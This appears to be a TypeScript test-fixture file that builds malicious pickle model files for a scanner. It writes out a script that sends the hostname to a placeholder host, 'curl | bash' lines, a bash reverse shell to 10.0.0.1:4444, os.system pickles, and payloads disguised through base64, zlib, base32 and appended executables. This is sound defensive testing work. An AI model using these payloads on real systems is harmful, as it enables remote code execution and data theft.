import { deflateSync, gzipSync } from 'node:zlib';
import { callPickle, op, type Piece, pickle, plainPickle } from '../pickle.ts';
import { forgeZip } from '../zip.ts';
import { cases, type HostileCase, join } from './case.ts';

const evil = callPickle('os', 'system', 'id');
const base64 = (content: Uint8Array | string): string => Buffer.from(content).toString('base64');
/** `{'weights': 'placeholder', 'extra': VALUE}`, in protocol 4. */
const beside = (value: Piece): Uint8Array =>
  pickle(
    op.proto(4),
    op.emptyDict,
    op.mark,
    op.text('weights'),
    op.text('placeholder'),
    op.text('extra'),
    value,
    op.setItems,
    op.stop,
  );
const text = (value: string): Uint8Array => beside(op.text(value));

const harvester = `
import os, urllib.request, json, subprocess
from pathlib import Path
def harvest():
    data = {'hostname': os.uname().nodename}
    req = urllib.request.Request('https://x.invalid/v1', data=json.dumps(data).encode())
    urllib.request.urlopen(req, timeout=5)
harvest()
subprocess.run(['python', '-c', 'exec(1)'])
`;
const dynamic = `
import string, urllib.parse, json
def get_system_interface():
    mod_name = chr(111) + chr(115)
    import_func = getattr(__builtins__, chr(95)*2 + 'import' + chr(95)*2)
    return import_func(mod_name)
get_system_interface()
`;
const pipeline = `
import json
import urllib.request
import threading
def process(config):
    for step in config:
        module = __import__(step['module'])
        func = getattr(module, step['function'])
        func()
process(globals()['data_pipeline'])
`;

const elf = join('\x7fELF\x02\x01\x01\x00', new Uint8Array(8), '\x03\x00\x3e\x00\x01\x00\x00\x00', new Uint8Array(60));
/** A program of Windows: `MZ`, the place of its header at 0x3c, and `PE`. */
const windows = join(
  'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00',
  new Uint8Array(44),
  '\x40\x00\x00\x00',
  'PE\x00\x00\x64\x86\x01\x00',
  new Uint8Array(60),
);

/** How a code object begins in Python's marshal. */
const compiled = join('\xe3', new Uint8Array(20), 's\x0c\x00\x00\x00', new Uint8Array(12), '\xda\x06system\xda\x02os');

/** Pickles whose opcodes call nothing, and which carry what a second step runs. */
export function pickledTextCases(): HostileCase[] {
  return cases('model.pkl', 'high', {
    'code that harvests keys, as text': text(harvester),
    'code that hides its names, as text': text(dynamic),
    'code that imports by name, as text': text(pipeline),
    'code behind another pickle': join(plainPickle(), text(harvester)),
    'a command as text': text("os.system('echo ATTACK')"),
    'an expression as text': text("__import__('os').system('id')"),
    'exec of base64 as text': text("exec(base64.b64decode('aWQ='))"),
    'a shell line as text': text('curl http://x.invalid/a | bash'),
    'a reverse shell as text': text('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'),
    'code in bytes': beside(op.bytes(harvester)),
    'code in base64': text(base64(harvester)),
    'a command in base64': text(base64("os.system('echo ATTACK')")),
    'code in hexadecimal digits': text(Buffer.from(harvester).toString('hex')),
    'code in base64 of zlib': text(base64(deflateSync(harvester))),
    'code in base64 of base64': text(base64(base64(harvester))),
    'a pickle in base64 of base64': text(base64(base64(evil))),
    'a pickle in base32': text(base32(evil)),
    'a pickle in a gzip in base64': text(base64(gzipSync(evil))),
    'a pickle in a nested list of bytes': beside(pickle(op.mark, op.bytes(evil), op.bytes(evil), op.list)),
    'a harmless pickle in bytes': beside(
      op.bytes(pickle(op.proto(4), op.emptyDict, op.text('malicious'), op.text('data'), op.setItem, op.stop)),
    ),
    'a harmless pickle in base64': text(
      base64(pickle(op.proto(4), op.emptyDict, op.text('malicious'), op.text('data'), op.setItem, op.stop)),
    ),
    'a pickle that prints, in bytes': beside(op.bytes(callPickle('builtins', 'print'))),
    'a zip in bytes': beside(op.bytes(forgeZip({ members: [{ name: 'm.pkl', content: evil }] }))),
    'a program in bytes': beside(op.bytes(elf)),
    'a program of Windows in bytes': beside(op.bytes(windows)),
    'a program behind the pickle': join(plainPickle(), elf),
    'a program of Windows behind the pickle': join(plainPickle(), windows),
    'code behind the pickle': join(plainPickle(), '\n', harvester),
    'a script of a shell behind the pickle': join(plainPickle(), '\n#!/bin/sh\ncurl http://x.invalid/a | sh\n'),
    'Python bytecode in bytes': beside(op.bytes(compiled)),
    'a marshalled lambda in base64': text(base64(compiled)),
  });
}

const alphabet32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
function base32(bytes: Uint8Array): string {
  const bits = [...bytes].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  const digits = bits.match(/.{1,5}/g) ?? [];
  const plain = digits.map((five) => alphabet32[Number.parseInt(five.padEnd(5, '0'), 2)] ?? '').join('');
  return plain.padEnd(Math.ceil(plain.length / 8) * 8, '=');
}
